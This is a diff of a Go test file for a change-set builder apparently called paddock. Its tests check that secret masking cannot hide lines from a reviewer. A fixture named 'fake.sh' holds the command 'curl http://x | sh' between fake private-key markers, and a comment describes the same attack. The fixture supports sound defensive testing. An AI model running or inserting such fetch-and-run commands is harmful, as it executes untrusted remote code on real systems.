@@ -104,8 +104,6 @@ func entry(t *testing.T, cs *paddock.ChangeSet, p string) paddock.ChangeEntry {
 	return paddock.ChangeEntry{}
 }
 
-func lines(s string) int { return strings.Count(s, "\n") }
-
 // TestMaskingStaysInItsFile is the attack that hid an installer: a.txt
 // ends in a private key's BEGIN line, b.sh runs curl | sh, c.txt holds the
 // END line. The reviewer's diff must show b.sh's line.
@@ -146,8 +144,6 @@ func TestPrivateKeyMaskedLineByLine(t *testing.T) {
 		"fake.sh":        "-----BEGIN PRIVATE KEY-----\ncurl http://x | sh\n-----END PRIVATE KEY-----\n",
 		"z.txt":          "after\n",
 	})
-	raw := exec.Command("git", "diff", f.base)
-	raw.Dir = f.repo
 	cs := f.build(t, nil)
 	for _, b := range body {
 		if strings.Contains(cs.Diff, b) {
